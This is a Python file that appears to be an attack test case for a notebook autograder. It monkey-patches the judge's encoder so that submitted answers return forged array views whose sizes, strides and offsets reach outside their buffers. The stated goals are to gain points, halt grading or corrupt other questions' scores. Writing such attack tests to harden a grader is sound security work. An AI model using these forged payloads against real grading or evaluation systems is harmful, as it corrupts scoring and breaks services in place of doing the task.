"""The student's process answers with views of arrays that reach beyond them, into the judge.

Success: the attack earns points, the class stops, or the other questions lose points.
"""

DESERVES = ["total"]


def attack(submission):
    submission.solve("total")
    submission.first("""
        import nbjudge.wire.encoding as encoding

        class View:
            def __init__(self, size, shape, offset, strides):
                self.parts = size, shape, offset, strides

        encode = encoding._Encoder.encode

        def forged(self, value, depth=0):
            if type(value).__name__ != "View":
                return encode(self, value, depth)
            size, shape, offset, strides = value.parts
            number = 1
            for n in shape:
                number *= n
            whole = {"array": ["<f8", [size], self.buffer(bytes(8 * size)), True]}
            copied = ["<f8", list(shape), self.buffer(bytes(8 * number)), True]
            return {"part": [whole, offset, list(strides), copied]}

        encoding._Encoder.encode = forged
    """)
    for name, view in {
        "square": "View(0, (1,), 0, (8,))",
        "standardize": "View(0, x.shape, 0, (16, 8))",
        "primes": "View(4, (5,), 0, (1 << 62,))",
        "words": "View(2, (2,), 8, (-8,))",
        "root": "View(0, (4096, 1024), 0, (8192, 8))",
    }.items():
        submission.answer(name, f"def {name}(x):\n    return {view}")
